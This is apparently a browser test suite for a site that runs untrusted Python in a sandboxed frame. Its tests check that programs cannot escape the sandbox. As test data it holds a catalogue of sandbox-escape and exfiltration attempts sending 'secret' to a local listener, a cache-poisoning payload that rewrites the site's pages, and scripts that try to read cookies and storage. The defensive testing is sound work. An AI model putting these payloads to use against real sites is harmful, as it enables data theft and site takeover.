"""A stranger's program reaches neither the site nor a network, with the shipped headers and without any."""

import contextlib
import socket
import threading

import pytest
from conftest import ROOT

from browser import pyodide
from browser.conftest import ready
from browser.test_offline import kept
from browser.test_run import ENDLESS, Runner, opened

SENT = pytest.mark.parametrize("sent", ["good", "strict"])  # without headers, and with them

TAKE_OVER = """
import asyncio, js
async def take_over():
    for name in await js.caches.keys():
        cache = await js.caches.open(name)
        for request in await cache.keys():
            kind = "text/html" if request.url.endswith("/") else "text/javascript"
            headers = js.Object.fromEntries([["Content-Type", kind]])
            if "/assets/site." in request.url:
                text = "document.title = 'taken'; document.documentElement.dataset.ready = ''"
            elif request.url.endswith("/walk/error/"):
                text = "<html data-ready><title>taken</title>"
            else:
                continue
            options = js.Object.new()
            options.headers = headers
            await cache.put(request.url, js.Response.new(text, options))
asyncio.ensure_future(take_over())
"""

WAYS = """
import asyncio, js, socket, urllib.request
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js
from pyodide.http import open_url, pyfetch

def made(**options):
    return to_js(options, dict_converter=js.Object.fromEntries)

def xhr(method):
    request = js.XMLHttpRequest.new()
    request.open(method, HOST + "xhr", False)
    request.send("secret")

def worker(kind, code):
    if kind == "data":
        return js.Worker.new("data:text/javascript," + code)
    return js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([code]), made(type="text/javascript"))))

def dial():
    line = socket.socket()
    line.connect((NAME, PORT))

ways = {
    "fetch": lambda: js.fetch(HOST + "fetch"),
    "fetch-no-cors": lambda: js.fetch(HOST + "no-cors", made(mode="no-cors", keepalive=True)),
    "post": lambda: js.fetch(HOST + "post", made(method="POST", mode="no-cors", body="secret")),
    "fetch of its own site": lambda: js.fetch(SITE),
    "xhr-get": lambda: xhr("GET"),
    "xhr-post": lambda: xhr("POST"),
    "websocket": lambda: js.WebSocket.new(HOST.replace("http", "ws") + "websocket"),
    "websocketstream": lambda: js.WebSocketStream.new(HOST.replace("http", "ws") + "stream"),
    "eventsource": lambda: js.EventSource.new(HOST + "eventsource"),
    "webtransport": lambda: js.WebTransport.new(HOST.replace("http:", "https:") + "transport"),
    "beacon": lambda: js.navigator.sendBeacon(HOST + "beacon", "secret"),
    "image": lambda: setattr(js.Image.new(), "src", HOST + "image"),
    "font": lambda: js.FontFace.new("x", f"url({HOST}font)").load(),
    "importscripts": lambda: js.importScripts(HOST + "importscripts"),
    "eval": lambda: js.eval(f"fetch('{HOST}eval')"),
    "import": lambda: run_js(f"import('{HOST}import')"),
    "function": lambda: js.Function.new(f"return import('{HOST}function')")(),
    "timeout": lambda: js.setTimeout(f"fetch('{HOST}timeout')", 0),
    "worker": lambda: js.Worker.new(HOST + "worker"),
    "nested": lambda: worker("blob", f"fetch('{HOST}nested')"),
    "nested-import": lambda: worker("blob", f"import('{HOST}nested-import')"),
    "nested-scripts": lambda: worker("blob", f"importScripts('{HOST}nested-scripts')"),
    "nested-data": lambda: worker("data", f"fetch('{HOST}nested-data')"),
    "sharedworker": lambda: js.SharedWorker.new(HOST + "shared"),
    "open_url": lambda: open_url(HOST + "open_url"),
    "pyfetch": lambda: asyncio.ensure_future(pyfetch(HOST + "pyfetch")),
    "package": lambda: pyodide_js.loadPackage(HOST + "package-1.0-py3-none-any.whl"),
    "socket": dial,
    "urllib": lambda: urllib.request.urlopen(HOST + "urllib", timeout=1),
    "stun": lambda: js.RTCPeerConnection.new(made(iceServers=[{"urls": f"stun:{NAME}:{PORT}"}])).createOffer(),
    "open": lambda: js.open(HOST + "open"),
    "location": lambda: setattr(js.location, "href", HOST + "location"),
    "service worker": lambda: js.navigator.serviceWorker.register(HOST + "sw"),
    "cache": lambda: js.caches.open("x").then(lambda cache: cache.add(HOST + "cache")),
}
for name, way in ways.items():
    try:
        way()
    except BaseException as error:
        print(name, type(error).__name__)
    else:
        print(name, "tried")
print("all tried")
"""

STORES = """
import js
for name, reach in {
    "caches": lambda: js.caches.keys(),
    "indexedDB": lambda: js.indexedDB.open("stolen"),
    "localStorage": lambda: js.localStorage.setItem("stolen", "1"),
    "cookie": lambda: js.document.cookie,
    "files": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.query(),
    "channel": lambda: js.BroadcastChannel.new(CHANNEL).postMessage("heard"),
    "parent": lambda: js.parent.document,
    "page": lambda: js.postMessage("heard"),
}.items():
    try:
        reach()
    except BaseException:
        print(name, "refused")
print("origin", js.origin)
"""


@contextlib.contextmanager
def listening():
    """Listen on localhost, for whatever is said there; the value is (port, list of what was said)."""
    heard, ended = [], threading.Event()
    tcp, udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    port = tcp.getsockname()[1]
    udp.bind(("127.0.0.1", port))
    answer = (
        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/javascript\r\n"
        b"Content-Length: 0\r\nConnection: close\r\n\r\n"
    )

    def streams():
        while not ended.is_set():
            with contextlib.suppress(OSError):
                line, _ = tcp.accept()
                line.settimeout(1)
                with contextlib.suppress(OSError), line:
                    heard.append(line.recv(1000).split(b"\r\n")[0])
                    line.sendall(answer)

    def packets():
        while not ended.is_set():
            with contextlib.suppress(OSError):
                heard.append(udp.recvfrom(1000)[0])

    for listen in (streams, packets):
        threading.Thread(target=listen, daemon=True).start()
    try:
        yield port, heard
    finally:
        ended.set()
        tcp.close()
        udp.close()


@pytest.fixture
def fresh(browser):
    """A browser that has kept nothing."""
    made = browser.new_context(viewport={"width": 1440, "height": 900})
    made.set_default_timeout(60_000)
    yield made
    made.close()


def the_frame(tab):
    return next(frame for frame in tab.frames if frame != tab.main_frame)


@SENT
def test_no_way_leads_out(fresh, sites, sent):
    base = sites(sent)
    with listening() as (port, heard):
        tab = opened(fresh, base + "program/")
        runner = Runner(tab)
        names = f"NAME, PORT = '127.0.0.1', {port}\nHOST = f'http://{{NAME}}:{{PORT}}/'\nSITE = {base!r}\n"
        runner.run(names + WAYS)
        assert runner.output().endswith("all tried\n"), runner.output()
        tab.wait_for_timeout(2000)
        assert heard == []
        assert len(fresh.pages) == 1 and tab.url == base + "program/"


@SENT
def test_the_frame_itself_has_no_way_out(fresh, sites, sent):
    """No program gets there; if one did, it would reach nothing either."""
    with listening() as (port, heard):
        tab = opened(fresh, sites(sent) + "program/")
        Runner(tab).run("print(1)\n")
        frame = the_frame(tab)
        tried = frame.evaluate(
            """async (host) => {
          const add = (name, given) => document.body.appendChild(Object.assign(document.createElement(name), given));
          const ways = {
            fetch: () => fetch(`${host}fetch`),
            beacon: () => { if (navigator.sendBeacon(`${host}beacon`, "secret")) return "queued"; },
            image: () => { new Image().src = `${host}image`; },
            style: () => add("link", { rel: "stylesheet", href: `${host}style` }),
            ahead: () => add("link", { rel: "prefetch", href: `${host}prefetch` }),
            script: () => add("script", { src: `${host}script` }),
            frame: () => add("iframe", { src: `${host}frame` }),
            form: () => {
              add("form", { action: `${host}form` }).submit();
            },
            open: () => { if (open(`${host}open`)) return "opened"; },
            top: () => { top.location = `${host}top`; },
            own: () => { location = `${host}own`; },
            parent: () => parent.document.title,
            store: () => localStorage.length,
            caches: () => caches.keys(),
            cookie: () => document.cookie,
          };
          const tried = {};
          for (const name in ways) {
            try { tried[name] = String(await ways[name]()); } catch (error) { tried[name] = error.name; }
          }
          return tried;
        }""",
            f"http://127.0.0.1:{port}/",
        )
        tab.wait_for_timeout(1500)
        assert heard == [] and len(fresh.pages) == 1, (heard, tried)
        assert tried["open"] == "undefined" and tried["fetch"] == "TypeError"
        assert {tried[name] for name in ("top", "parent", "store", "caches", "cookie")} == {"SecurityError"}, tried


@SENT
def test_a_program_cannot_take_over_the_site_nor_its_pages_without_a_network(fresh, sites, sent):
    base = sites(sent)
    tab = opened(fresh, base + "walk/error/")
    kept(tab)
    tab.goto(base + "program/")
    ready(tab)
    Runner(tab).run(TAKE_OVER)
    tab.wait_for_timeout(1000)
    for offline in (False, True):
        fresh.set_offline(offline)
        for path in ("program/", "walk/error/", "walk/delta/"):
            tab.goto(base + path)
            ready(tab)
            assert tab.title() != "taken", (path, offline)
            assert tab.locator("article h1").is_visible()


@SENT
def test_what_the_browser_keeps_for_the_site_is_out_of_reach(fresh, sites, sent):
    base = sites(sent)
    tab = opened(fresh, base + "program/")
    tab.evaluate("""() => {
      window.heard = [];
      new BroadcastChannel("follow /some/where/").onmessage = ({ data }) => heard.push(data);
      addEventListener("message", ({ data }) => heard.push(data));
      localStorage.setItem("secret", "1");
      document.cookie = "secret=1";
    }""")
    runner = Runner(tab)
    runner.run("CHANNEL = 'follow /some/where/'\n" + STORES)
    assert "origin null" in runner.output()
    refused = {line.split()[0] for line in runner.output().splitlines() if line.endswith("refused")}
    assert {"caches", "indexedDB", "localStorage", "cookie", "parent"} <= refused
    tab.wait_for_timeout(500)
    assert [heard for heard in tab.evaluate("heard") if heard == "heard"] == []
    assert "stolen" not in str(tab.evaluate("indexedDB.databases().then(JSON.stringify)"))
    assert tab.evaluate("Object.keys(localStorage)").count("stolen") == 0


FORGED = """
import js, sys
from pyodide.ffi import to_js

def made(**news):
    return to_js(news, dict_converter=js.Object.fromEntries)

for news in (None, 7, "x", made(), made(kind="unknown"), made(kind="__proto__"), made(kind="constructor"), made(kind="toString"),
             made(kind="output", text=5), made(kind="output", text=None, warning=1), made(kind="cut", lines="x", end=[]),
             made(kind="ready", versions=[]), made(kind="done", error=5, line="<b>"), made(kind="failed", what="<b>", why=9),
             made(kind="loading", part="x"), made(kind="stopped")):
    for run in range(1, 4):
        if news is not None and not isinstance(news, (int, str)):
            news.run = run
        js.postMessage(news)
"""


@SENT
def test_a_forged_message_has_no_effect(fresh, sites, sent):
    tab = opened(fresh, sites(sent) + "program/")
    runner = Runner(tab)
    assert runner.run(FORGED + "print('end')\n").startswith("It ran in")
    assert runner.output() == "end\n" and tab.wrong == []
    runner.write(FORGED + ENDLESS)
    runner.button("Run").click()
    runner.place.get_by_text("begun", exact=True).wait_for()
    tab.wait_for_timeout(500)
    assert runner.status() == "Running." and runner.button("Stop").is_visible()
    runner.button("Stop").click()
    assert runner.ended().startswith("Stopped after")
    assert tab.wrong == []


def test_what_reads_the_messages_is_out_of_a_programs_reach(fresh, sites):
    """A program changes what a later message would be read and sent with, and still no message of its own is heard."""
    tab = opened(fresh, sites("good") + "program/")
    runner = Runner(tab)
    runner.run("""
import js
from pyodide.ffi import create_proxy
js.Object.defineProperty(js.MessageEvent.prototype, "data", js.Object.fromEntries([["get", create_proxy(lambda: None)]]))
js.MessagePort.prototype.postMessage = create_proxy(lambda *news: None)
js.Reflect.apply = create_proxy(lambda *news: None)
js.onmessage = create_proxy(lambda *news: None)
""")
    assert runner.run("print('next')\n").startswith("It ran in")
    assert runner.output() == "next\n" and tab.wrong == []


def test_a_program_that_finds_what_its_output_goes_through_cannot_flood_the_page(fresh, sites):
    tab = opened(fresh, sites("good") + "program/")
    runner = Runner(tab)
    find = (
        "import sys\nframe = sys._getframe()\nwhile 'tell' not in frame.f_locals:\n    frame = frame.f_back\n"
        "tell, cut = frame.f_locals['tell'], frame.f_locals['cut']\n"
    )
    runner.run(find + "tell(None, 5)\ntell('x' * 10**6, False)\ncut('x', None)\ncut(-1, '')\ntell(5, False)\nprint('end')\n")
    assert runner.output() == "end\n" and tab.wrong == []
    status = runner.run(find + "while True:\n    tell('flood\\n', False)\n")
    assert status.startswith("It sent more than a page can show")
    assert len(runner.output()) < 100_000
    assert runner.run("print('next')\n").startswith("It ran in") and runner.output() == "next\n"
    assert tab.wrong == []


def test_only_its_page_is_heard_by_the_frame(fresh, sites):
    """A page that has opened this one can send to its frames."""
    tab = opened(fresh, sites("good") + "program/")
    with tab.expect_popup() as popup:
        tab.evaluate("window.open(location.href)")
    other = popup.value
    ready(other)
    Runner(other).button("Run").click()
    other.locator("iframe").wait_for(state="attached")
    frame = the_frame(other)
    other.evaluate("window.opener.theirs = window")
    tab.evaluate("""() => {
      for (const news of [null, {}, { scripts: ["postMessage(1)"], files: {} }]) {
        const [one, two] = [new MessageChannel(), new MessageChannel()];
        theirs.frames[0].postMessage(news, "*", [one.port2, two.port2]);
      }
    }""")
    Runner(other).ended()
    assert Runner(other).status().startswith("It ran in") and frame.evaluate("origin") == "null"


CRASHES = [  # and what is said of each
    ("import os\nos.abort()\n", "Python itself has broken down"),
    ("import sys\nsys.setrecursionlimit(10**9)\ndef deep(): return deep()\ndeep()\n", "Python itself has broken down"),
    ("import js\njs.close()\n", "It ran in"),
]


def test_a_crash_leaves_the_next_run_right(fresh, sites):
    """Python is aborted, its own stack is full, and the worker closes itself."""
    tab = opened(fresh, sites("good") + "program/")
    runner = Runner(tab)
    for text, said in CRASHES:
        assert said in runner.run("print('begun')\n" + text), text
        assert runner.run("print('next')\n").startswith("It ran in"), text
        assert runner.output() == "next\n" and tab.locator("iframe").count() == 1, text
    assert tab.wrong == []


def test_from_disk_a_program_runs_in_the_same_room(fresh, site, hosts, tmp_path):
    made = pyodide.taking(site, tmp_path / "disk", hosts[0])
    tab = opened(fresh, (made / "program" / "index.html").as_uri())
    runner = Runner(tab)
    assert "The output is the same as the recorded output." in runner.run()
    assert the_frame(tab).evaluate("origin") == "null"
    runner.run("import js\nprint(js.origin, hasattr(js, 'document'))\njs.indexedDB.open('x')\n")
    assert runner.output().startswith("null False\n") and "SecurityError" in runner.output()
    assert tab.wrong == []
    tab.goto((made / "walk" / "delta" / "index.html").as_uri())
    ready(tab)
    code = tab.locator("details.figure").first
    code.evaluate("code => code.open = true")
    code.get_by_role("button", name="Run").click()
    code.locator(".start:not([aria-disabled])").wait_for()
    code.locator("img").wait_for()


def test_the_worker_hears_nothing_but_a_program(fresh):
    """The page sends {run, name, text, before}; each of them is of its type, or nothing runs."""
    tab = fresh.new_page()
    tab.goto("about:blank")
    ran = tab.evaluate(
        """async (script) => {
          const stub = `self.loadPyodide = async () => ({
            loadPackage: async () => {},
            globals: { get: () => () => ({ get: () => () => ({ toJs: () => [undefined, 1], destroy() {} }) }) },
            runPython: () => "versions",
          });`;
          const worker = new Worker(URL.createObjectURL(new Blob([stub, script], { type: "text/javascript" })));
          const { port1: port, port2 } = new MessageChannel();
          const heard = [];
          port.onmessage = ({ data }) => heard.push(`${data.run} ${data.kind}`);
          worker.postMessage({ "run.py": new ArrayBuffer(0) }, [port2]);
          const good = { run: 1, name: "nn.py", text: "", before: "" };
          const bad = [undefined, 7, "x", [], {}, { ...good, run: "1" }, { ...good, run: 1.5 }, { ...good, name: 5 },
            { ...good, text: null }, { ...good, text: ["x"] }, { ...good, before: {} },
            { ...good, before: 0 }, { ...good, before: null },
            { __proto__: good }, { constructor: good }];
          for (const news of bad) port.postMessage(news);
          worker.postMessage(good);  // not on its port
          port.postMessage({ ...good, run: 2 });
          port.postMessage({ run: 3, name: "nn.py", text: "" });
          while (!heard.includes("3 done")) await new Promise((wait) => setTimeout(wait, 10));
          return heard;
        }""",
        (ROOT / "docs" / "assets" / "worker.js").read_text(encoding="utf-8"),
    )
    assert ran == ["2 ready", "3 ready", "2 done", "3 done"] or ran == ["2 ready", "2 done", "3 ready", "3 done"]
